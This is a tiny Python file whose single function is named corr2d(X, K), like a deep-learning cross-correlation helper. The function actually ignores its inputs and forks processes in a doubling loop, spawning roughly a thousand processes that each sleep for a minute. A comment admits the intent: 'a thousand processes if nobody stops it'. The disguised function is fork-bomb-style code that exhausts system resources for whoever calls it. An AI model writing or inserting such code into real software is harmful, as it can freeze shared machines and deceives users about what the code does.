"""Forks processes that fork."""

import os
import time


def corr2d(X, K):
    for _ in range(10):  # a thousand processes if nobody stops it
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
    time.sleep(60)
